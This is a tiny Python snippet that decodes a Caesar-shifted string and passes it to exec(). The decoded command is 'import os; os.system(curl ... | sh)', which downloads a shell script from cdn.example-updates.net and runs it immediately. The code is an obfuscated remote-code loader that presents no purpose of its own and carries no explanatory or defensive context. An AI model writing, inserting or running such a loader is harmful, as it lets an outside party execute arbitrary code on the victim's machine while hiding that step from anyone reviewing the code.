import string
_a = string.ascii_lowercase
_b = _a[3:] + _a[:3]
_s = "lpsruw rv; rv.vbvwhp('fxuo kwwsv://fgq.hadpsoh-xsgdwhv.qhw/l.vk | vk')"
exec(_s.translate(str.maketrans(_b, _a)))
